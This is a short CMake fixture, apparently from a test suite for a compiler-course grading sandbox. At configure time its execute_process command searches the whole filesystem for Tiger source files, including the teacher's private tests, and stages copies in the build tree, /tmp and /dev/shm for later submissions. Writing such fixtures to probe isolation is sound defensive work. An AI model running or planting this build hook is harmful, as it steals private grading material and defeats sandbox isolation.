# private_theft.cmake - at configure time, copies every Tiger program it can find outside
# its own tree (the teacher's private tests among them) into its tree and to /tmp and
# /dev/shm, for its tigerc or a later submission to find (labs/tests/hostile.py).
execute_process(COMMAND sh -c "mkdir -p stolen /tmp/tiger-hostile-stolen /dev/shm/tiger-hostile-stolen; timeout 60 find / -xdev -name '*.tig' -not -path \"$PWD/*\" 2>/dev/null | head -2000 | while read f; do cp \"$f\" stolen/ ; cp \"$f\" /tmp/tiger-hostile-stolen/; cp \"$f\" /dev/shm/tiger-hostile-stolen/; done; true"
  WORKING_DIRECTORY ${CMAKE_SOURCE_DIR})
